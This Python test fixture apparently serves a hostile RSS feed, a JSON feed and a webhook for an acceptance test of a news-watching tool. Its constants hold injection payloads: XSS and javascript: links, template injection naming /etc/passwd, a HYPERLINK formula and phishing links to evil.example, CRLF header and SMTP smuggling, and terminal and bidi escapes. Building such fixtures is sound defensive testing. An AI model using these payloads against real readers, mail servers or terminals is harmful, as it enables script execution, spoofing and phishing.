"""What a hostile feed and a hostile receiver may say, served over HTTP: for the acceptance test of what harms nobody.

Two feeds: RSS, and JSON for what XML cannot carry. Every article holds the word that the watches look for, beside a
marker by which its traces are found.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape

from aiohttp import web

from stack.loopback_site import LoopbackSite

__all__ = ["ANSWER", "FEED_NAME", "TITLES", "HostileNewsroom", "marker"]

TITLES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)><circle/></svg>",
    "</title></style></head><body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='javascript:alert(1)'>free</a>",
    "<iframe src=https://evil.example></iframe><form action=https://evil.example><input></form>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
    "[bank](https://evil.example) <!channel> @everyone <https://evil.example|bank>",
    '=HYPERLINK("https://evil.example","x")',
    "x\r\nBcc: victim@evil.example",
    "x\r\n\r\n<html>second part",
    "=?utf-8?q?hello=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@evil.example>",
    "x\r.\rDATA",
    "Report \u202egpj.exe\u202c \u2066hidden\u2069 \u200fend",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b31mred \x90q\x9c \u2028line\u2029paragraph\x85next",
    "nul \x00 bell \x07 back \x08\x08\x08 del \x7f",
    "lone \ud83d surrogate \x07 and \U0001f4a3",
    "العنوان \u202eالمعكوس\u202c <b>غامق</b>\r\nBcc: ضحية@evil.example",
    "a" * 3_000 + " embargo",
    "s3cret\\u001b[31m \\x1b[0m %s %n {0} %(levelname)s",
)
LINKS = {
    3: "javascript:alert(document.domain)",
    4: "data:text/html,<script>alert(1)</script>",
    5: 'https://hostile.example/"onmouseover="alert(1)',
    6: "https://hostile.example/<script>alert(1)</script>",
    7: "https://user:password@hostile.example/item",
}
FEED_NAME = "<script>alert('source')</script> \u202eNews"
ANSWER = "\x1b]0;owned\x07\x9b31m<script>alert(1)</script>\u202eeslaf\u2028\r\nX-Injected: 1"


def marker(place: int) -> str:
    """The word that marks the article of this title."""
    return f"zqx{place:02}zqx"


@dataclass
class HostileNewsroom:
    """Serves `/rss.xml` and `/feed.json`; `/hook` refuses what it gets, with words that would steer a terminal."""

    published: bool = False
    polls: int = 0
    authorizations: set[str] = field(default_factory=set)
    asked: list[str] = field(default_factory=list)
    site: LoopbackSite = field(init=False)

    def __post_init__(self) -> None:
        routes = [
            web.get("/rss.xml", self._rss),
            web.get("/feed.json", self._json),
            web.post("/hook", self._hook),
            web.get("/{path:.*}", self._anything),
        ]
        self.site = LoopbackSite(routes, 0)

    def _items(self) -> list[tuple[int, str]]:
        return list(enumerate(TITLES)) if self.published else []

    @staticmethod
    def _text(place: int) -> str:
        # Words of their own, so that no two are one story.
        own = " ".join(f"w{place}x{number * 7919 % 9973}" for number in range(60))
        return f"The embargo {marker(place)} was told. {TITLES[place]} {own}"

    async def _rss(self, request: web.Request) -> web.Response:
        self.polls += 1
        self.authorizations.add(request.headers.get("Authorization", ""))
        items = ["<item><title>An old report</title><link>https://hostile.example/old</link><guid>old</guid></item>"]
        for place, title in self._items():
            if any(ord(letter) < 32 and letter not in "\r\n" for letter in title):
                continue  # XML cannot carry it; the other feed does.
            shown = escape(title).replace("\r", "&#13;").replace("\n", "&#10;")
            link = escape(LINKS.get(place, f"https://hostile.example/rss-{place}"), {'"': "&quot;"})
            items.append(
                f"<item><title>{shown}</title><link>{link}</link><guid isPermaLink='false'>rss-{place}</guid>"
                f"<author>{shown}</author><category>{shown}</category>"
                f"<description><![CDATA[<p>{escape(self._text(place))}</p><script>alert(2)</script>]]></description>"
                "</item>"
            )
        body = f"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title>{''.join(items)}</channel></rss>"
        return web.Response(text=body, content_type="application/rss+xml")

    async def _json(self, _: web.Request) -> web.Response:
        items: list[dict[str, Any]] = [{"id": "old", "url": "https://hostile.example/old-json", "title": "Old"}]
        for place, title in self._items():
            if not any(ord(letter) < 32 and letter not in "\r\n" for letter in title):
                continue
            text = self._text(place)
            url = f"https://hostile.example/json-{place}"
            items.append({"id": f"json-{place}", "url": url, "title": title, "content_text": text})
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": items}
        return web.Response(text=json.dumps(feed), content_type="application/feed+json")

    async def _hook(self, _: web.Request) -> web.Response:
        return web.Response(status=400, body=ANSWER.encode(), content_type="text/html")

    async def _anything(self, request: web.Request) -> web.Response:
        self.asked.append(request.path)
        return web.Response(status=404)
